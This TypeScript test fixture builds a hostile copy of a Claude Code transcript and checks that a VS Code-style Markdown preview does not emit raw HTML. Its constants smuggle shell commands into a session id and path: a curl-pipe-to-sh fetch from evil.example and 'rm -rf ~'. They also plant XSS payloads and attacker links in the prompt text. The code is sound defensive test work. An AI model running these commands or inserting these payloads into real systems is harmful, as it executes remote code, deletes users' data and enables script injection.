// A real Claude Code transcript rewritten so every value a cloned repository could control is hostile.
import * as fs from 'node:fs';
import { createRequire } from 'node:module';
import * as path from 'node:path';
import { CLAUDE_SAMPLE } from './fixtures';

export const EVIL_ID = 'x; curl -s http://evil.example/p.sh | sh #';
export const EVIL_CWD = '../../x; rm -rf ~ #';
/** HTML, a link, an image, a bare URL, emphasis, a table row and backtick runs longer than a fence. */
export const EVIL_TEXT = 'Task <img src=x onerror=alert(1)> [click](http://evil.example/l) ![px](http://evil.example/p.png) https://evil.example/u <script>alert(2)</script> **bold** _em_ | a | b |\n````\n<b>out of the fence</b>\n``` `` `';
export const EVIL_TOOL = 'Bash<img src=y>`[t](http://evil.example/t)`';

/** Writes dir/<uuid>.jsonl: the shipped sample with the session id, cwd, first prompt and tool names replaced. */
export function writeHostileTranscript(dir: string): string {
  const lines = fs.readFileSync(CLAUDE_SAMPLE, 'utf8').split('\n').filter(Boolean);
  let prompted = false;
  const out = lines.map((l) => {
    const r = JSON.parse(l) as Record<string, any>;
    if (r.sessionId) r.sessionId = EVIL_ID;
    if (r.cwd) r.cwd = EVIL_CWD;
    if (r.type === 'user' && typeof r.message?.content === 'string' && !prompted) {
      r.message.content = EVIL_TEXT;
      prompted = true;
    }
    for (const c of Array.isArray(r.message?.content) ? r.message.content : []) {
      if (c.type === 'tool_use') c.name = EVIL_TOOL;
      if (c.type === 'text') c.text = `${EVIL_TEXT}\n${c.text}`;
    }
    return JSON.stringify(r);
  });
  const file = path.join(dir, 'ab9a2988-b392-46b5-a150-6191e63efe31.jsonl');
  fs.writeFileSync(file, `${out.join('\n')}\n`);
  return file;
}

type MarkdownIt = { render(src: string): string };
const Md = createRequire(__filename)('markdown-it') as new (options: object) => MarkdownIt;
// As VS Code's Markdown preview configures it: raw HTML allowed, bare URLs linkified.
const md = new Md({ html: true, linkify: true });

/** HTML as VS Code's Markdown preview renders it (markdown-it with html and linkify). */
export const renderMarkdownPreview = (markdown: string): string => md.render(markdown);

/** HTML that Markdown from a transcript must never produce, with the offending piece, or undefined. */
export function markupFromTranscript(markdown: string): string | undefined {
  const html = md.render(markdown);
  const bad = /<img|<script|<a\s|<b>out|<strong>bold|<em>em<|<td>\s*a\s*<\/td>/i.exec(html);
  return bad ? html.slice(Math.max(0, bad.index - 80), bad.index + 120) : undefined;
}
